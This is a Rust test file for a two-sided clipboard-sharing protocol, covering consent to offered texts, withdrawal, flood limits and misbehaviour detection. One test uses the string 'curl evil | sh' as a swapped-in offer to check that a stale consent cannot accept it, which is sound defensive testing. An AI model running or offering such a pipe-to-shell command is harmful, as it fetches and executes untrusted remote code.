use super::*;
use alloc::{vec, vec::Vec};
use proptest::prelude::*;

const BOTH: ClipWays = ClipWays { to_watcher: true, to_shower: true };

fn at(ms: u64) -> Moment {
    Moment::from_ms(ms)
}

fn text(text: &str) -> ClipText {
    ClipText::new(text).unwrap()
}

/// Shower and watcher, what is put into their clipboards, and whether they are
/// told of what is copied.
struct Pair {
    sides: [Clipboard; 2],
    put: [Vec<ClipText>; 2],
    watching: [bool; 2],
}

impl Pair {
    fn new(rule: ClipboardRule) -> Self {
        let sides = [Role::Shower, Role::Watcher].map(|role| Clipboard::new(role, rule, at(0)));
        Self { sides, put: Default::default(), watching: [false; 2] }
    }

    fn settle(&mut self, now: Moment) {
        loop {
            let mut quiet = true;
            for side in 0..2 {
                let effects: Vec<_> = core::iter::from_fn(|| self.sides[side].poll_effect()).collect();
                for effect in effects {
                    quiet = false;
                    match effect {
                        ClipboardEffect::Send(message) => self.sides[1 - side].handle(message, now).unwrap(),
                        ClipboardEffect::Put(text) => self.put[side].push(text),
                        ClipboardEffect::Watch(on) => self.watching[side] = on,
                    }
                }
            }
            if quiet {
                return;
            }
        }
    }

    /// The person answers what is shown.
    fn answer(&mut self, side: usize, taken: bool) {
        if let Some((question, _)) = self.sides[side].waiting() {
            self.sides[side].answer(question, taken);
        }
    }

    fn copy(&mut self, side: usize, what: &str, now: Moment) {
        if self.watching[side] {
            self.sides[side].copied(text(what), now);
            self.settle(now);
        }
    }
}

#[test]
fn an_offered_text_is_in_the_other_clipboard_only_after_a_yes() {
    let mut pair = Pair::new(ClipboardRule::OneByOne);
    pair.sides[1].offer("IBAN DE02", at(0)).unwrap();
    pair.settle(at(0));
    assert_eq!(pair.sides[0].waiting(), Some((Question(1), &text("IBAN DE02"))));
    assert_eq!(pair.sides[1].offer("another", at(0)), Err(ClipError::Waiting));
    assert!(pair.put[0].is_empty());
    pair.answer(0, true);
    pair.settle(at(1));
    assert_eq!((pair.put[0].as_slice(), pair.sides[1].offered()), (&[text("IBAN DE02")][..], &Offered::Taken));
    pair.sides[0].offer("no thanks", at(1)).unwrap();
    pair.settle(at(2));
    pair.answer(1, false);
    pair.settle(at(3));
    assert_eq!((pair.put[1].len(), pair.sides[0].offered()), (0, &Offered::Refused));
}

#[test]
fn a_withdrawn_text_can_be_taken_no_more() {
    let mut pair = Pair::new(ClipboardRule::Allowed);
    pair.sides[1].offer("oops", at(0)).unwrap();
    pair.settle(at(0));
    pair.sides[1].withdraw();
    // The yes crosses the withdrawal.
    pair.answer(0, true);
    pair.settle(at(0));
    assert_eq!((pair.put[0].as_slice(), pair.sides[1].offered()), (&[text("oops")][..], &Offered::Nothing));
    pair.sides[1].offer("oops", at(0)).unwrap();
    pair.settle(at(0));
    pair.sides[1].withdraw();
    pair.settle(at(0));
    pair.answer(0, true);
    pair.settle(at(0));
    assert_eq!(pair.put[0].len(), 1);
}

#[test]
fn a_yes_is_to_the_text_that_was_shown_and_to_no_other() {
    let mut side = Clipboard::new(Role::Shower, ClipboardRule::Allowed, at(0));
    let offer = |number, what| ClipboardMsg::Offer { number: OfferNumber(number), text: text(what) };
    side.handle(offer(1, "harmless"), at(0)).unwrap();
    let (shown, _) = side.waiting().unwrap();
    // Another text takes its place while the person presses the button.
    side.handle(ClipboardMsg::Withdraw(OfferNumber(1)), at(0)).unwrap();
    side.answer(shown, true);
    side.handle(offer(2, "curl evil | sh"), at(0)).unwrap();
    side.answer(shown, true);
    assert_eq!(side.poll_effect(), None);
    // After a cut offers are counted anew, and the questions are not.
    side.link_lost(at(1));
    for (number, what) in [(1, "curl evil | sh"), (2, "the same")] {
        side.handle(offer(number, what), at(1)).unwrap();
        side.answer(shown, true);
        assert_eq!(side.poll_effect(), None, "{what}");
        let (shown_now, waits) = side.waiting().unwrap();
        assert_eq!(waits, &text(what));
        side.answer(shown_now, false);
        assert!(matches!(side.poll_effect(), Some(ClipboardEffect::Send(ClipboardMsg::Answer { taken: false, .. }))));
    }
}

#[test]
fn offers_without_end_are_a_flood_and_an_honest_side_waits() {
    let mut hostile = Clipboard::new(Role::Shower, ClipboardRule::Allowed, at(0));
    let flood = (1..1_000).find_map(|number| {
        let offer = ClipboardMsg::Offer { number: OfferNumber(number), text: text("x") };
        let withdraw = ClipboardMsg::Withdraw(OfferNumber(number));
        hostile.handle(offer, at(0)).and_then(|()| hostile.handle(withdraw, at(0))).err()
    });
    assert_eq!(flood, Some(Misbehaviour::ClipboardFlood));
    let mut pair = Pair::new(ClipboardRule::Allowed);
    let mut offered = 0;
    while pair.sides[0].offer("x", at(0)) == Ok(()) {
        offered += 1;
        pair.sides[0].withdraw();
        pair.settle(at(0));
    }
    assert_eq!((offered, pair.sides[0].offer("x", at(0))), (10, Err(ClipError::TooFast)));
    assert_eq!(pair.sides[0].offer("x", at(1_000)), Ok(()));
}

#[test]
fn only_what_is_copied_under_the_switch_goes_and_only_its_way() {
    let mut pair = Pair::new(ClipboardRule::Allowed);
    assert!(pair.sides[0].allow(ClipWays { to_watcher: true, to_shower: false }));
    pair.settle(at(0));
    assert_eq!(pair.watching, [true, false]);
    pair.copy(0, "from the shower", at(1));
    pair.copy(1, "from the watcher", at(1));
    assert_eq!((pair.put[0].len(), pair.put[1].as_slice()), (0, &[text("from the shower")][..]));

    assert!(pair.sides[0].allow(BOTH));
    pair.settle(at(2));
    assert_eq!(pair.watching, [true, false], "the human at the watcher has to want it too");
    pair.sides[1].let_out(true);
    pair.settle(at(2));
    pair.copy(1, "from the watcher", at(3));
    assert_eq!(pair.put[0], [text("from the watcher")]);

    pair.sides[0].end_rights();
    pair.settle(at(4));
    assert_eq!((pair.watching, pair.sides[1].ways()), ([false, false], ClipWays::OFF));
    pair.copy(0, "after", at(5));
    assert_eq!(pair.put[1].len(), 1);
}

#[test]
fn the_watchers_word_ends_with_the_switch_and_is_no_word_to_a_later_one() {
    let to_watcher = ClipWays { to_watcher: true, to_shower: false };
    for off in [ClipWays::OFF, to_watcher] {
        let mut pair = Pair::new(ClipboardRule::Allowed);
        assert!(pair.sides[0].allow(BOTH));
        pair.settle(at(0));
        pair.sides[1].let_out(true);
        pair.settle(at(0));
        assert_eq!(pair.watching, [true, true]);
        assert!(pair.sides[0].allow(to_watcher));
        assert!(pair.sides[0].allow(off));
        pair.settle(at(1));
        assert!(!pair.watching[1] && !pair.sides[1].lets_out());
        // Pressed while the switch went off.
        pair.sides[1].let_out(true);
        pair.settle(at(1));
        assert!(pair.sides[0].allow(BOTH));
        pair.settle(at(2));
        assert!(!pair.watching[1] && !pair.sides[1].lets_out(), "it went on again by the other person alone");
        pair.sides[1].let_out(true);
        pair.settle(at(3));
        assert_eq!(pair.watching, [true, true]);
        // The other way says nothing of this one.
        assert!(pair.sides[0].allow(ClipWays { to_watcher: false, to_shower: true }));
        pair.settle(at(4));
        assert_eq!(pair.watching, [false, true]);
    }
}

#[test]
fn a_text_that_was_on_its_way_when_the_switch_went_off_is_dropped() {
    let mut shower = Clipboard::new(Role::Shower, ClipboardRule::Allowed, at(0));
    assert!(shower.allow(BOTH));
    assert!(shower.allow(ClipWays::OFF));
    while shower.poll_effect().is_some() {}
    assert_eq!(shower.handle(ClipboardMsg::Copied(text("late")), at(0)), Ok(()));
    assert_eq!(shower.poll_effect(), None);
}

#[test]
fn a_program_that_copies_in_a_loop_sends_its_newest() {
    let mut pair = Pair::new(ClipboardRule::Allowed);
    assert!(pair.sides[0].allow(BOTH));
    pair.settle(at(0));
    for number in 0..100 {
        pair.copy(0, &number.to_string(), at(1));
    }
    assert_eq!(pair.put[1].len(), 10);
    let due = pair.sides[0].poll_timeout().unwrap();
    pair.sides[0].handle_timeout(due);
    pair.settle(due);
    assert_eq!((pair.put[1].len(), pair.put[1].last()), (11, Some(&text("99"))));
    assert_eq!(pair.sides[0].poll_timeout(), None);
}

#[test]
fn the_companys_rule_is_kept_at_both_sides() {
    let mut pair = Pair::new(ClipboardRule::OneByOne);
    assert!(!pair.sides[0].allow(BOTH));
    pair.sides[0].offer("x", at(0)).unwrap();
    let mut pair = Pair::new(ClipboardRule::Forbidden);
    assert_eq!(pair.sides[0].offer("x", at(0)), Err(ClipError::Forbidden));
    let offer = ClipboardMsg::Offer { number: OfferNumber(1), text: text("x") };
    pair.sides[0].handle(offer, at(0)).unwrap();
    assert_eq!(pair.sides[0].waiting(), None);
}

#[test]
fn what_an_honest_program_cannot_send_ends_the_session() {
    let offer = |number| ClipboardMsg::Offer { number: OfferNumber(number), text: text("x") };
    let answer = |number| ClipboardMsg::Answer { number: OfferNumber(number), taken: true };
    let copied = ClipboardMsg::Copied(text("x"));
    for (role, hostile) in [
        (Role::Shower, vec![offer(2)]),
        (Role::Shower, vec![offer(1), offer(2)]),
        (Role::Watcher, vec![answer(1)]),
        (Role::Shower, vec![ClipboardMsg::Withdraw(OfferNumber(1))]),
        (Role::Shower, vec![ClipboardMsg::Allow(BOTH)]),
        (Role::Shower, vec![copied.clone()]),
        (Role::Watcher, vec![ClipboardMsg::Allow(ClipWays { to_watcher: false, to_shower: true }), copied]),
    ] {
        let mut side = Clipboard::new(role, ClipboardRule::Allowed, at(0));
        let (last, before) = hostile.split_last().unwrap();
        before.iter().for_each(|message| side.handle(message.clone(), at(0)).unwrap());
        assert_eq!(side.handle(last.clone(), at(0)), Err(Misbehaviour::ClipboardOrder), "{hostile:?}");
    }
    let mut watcher = Clipboard::new(Role::Watcher, ClipboardRule::Allowed, at(0));
    watcher.handle(ClipboardMsg::Allow(BOTH), at(0)).unwrap();
    let flood = (0..100).find_map(|_| watcher.handle(ClipboardMsg::Copied(text("x")), at(0)).err());
    assert_eq!(flood, Some(Misbehaviour::ClipboardFlood));
}

#[derive(Clone, Debug)]
enum Step {
    Allow(bool, bool),
    LetOut(bool),
    Copy(usize),
    Offer(usize),
    Withdraw(usize),
    Answer(usize, bool),
    End(usize),
    Cut,
    Settle,
}

fn step() -> impl Strategy<Value = Step> {
    prop_oneof![
        (any::<bool>(), any::<bool>()).prop_map(|(one, other)| Step::Allow(one, other)),
        any::<bool>().prop_map(Step::LetOut),
        (0_usize..2).prop_map(Step::Copy),
        (0_usize..2).prop_map(Step::Offer),
        (0_usize..2).prop_map(Step::Withdraw),
        (0_usize..2, any::<bool>()).prop_map(|(side, taken)| Step::Answer(side, taken)),
        (0_usize..2).prop_map(Step::End),
        Just(Step::Cut),
        Just(Step::Settle),
    ]
}

proptest! {
    #[test]
    fn honest_sides_understand_each_other_whatever_crosses(steps in proptest::collection::vec((step(), 0_u64..900), 0..200)) {
        let mut pair = Pair::new(ClipboardRule::Allowed);
        let mut now = 0;
        for (step, later) in steps {
            now += later;
            match step {
                Step::Allow(to_watcher, to_shower) => {
                    let allowed = pair.sides[0].allow(ClipWays { to_watcher, to_shower });
                    prop_assert!(allowed);
                }
                Step::LetOut(out) => pair.sides[1].let_out(out),
                // Without settling: it may cross whatever is on its way.
                Step::Copy(side) => pair.sides[side].copied(text("copied"), at(now)),
                Step::Offer(side) => drop(pair.sides[side].offer("offered", at(now))),
                Step::Withdraw(side) => pair.sides[side].withdraw(),
                Step::Answer(side, taken) => pair.answer(side, taken),
                Step::End(side) => pair.sides[side].end_rights(),
                Step::Cut => {
                    pair.sides.iter_mut().for_each(|side| side.link_lost(at(now)));
                    prop_assert!(pair.sides.iter().all(|side| side.ways() == ClipWays::OFF && side.waiting().is_none()));
                }
                Step::Settle => pair.settle(at(now)),
            }
        }
        pair.settle(at(now));
        prop_assert_eq!(pair.sides[0].ways(), pair.sides[1].ways());
        pair.sides[0].end_rights();
        pair.settle(at(now));
        prop_assert_eq!(pair.watching, [false, false]);
        let before: usize = pair.put.iter().map(Vec::len).sum();
        pair.copy(0, "x", at(now));
        pair.copy(1, "x", at(now));
        prop_assert_eq!(pair.put.iter().map(Vec::len).sum::<usize>(), before);
    }
}
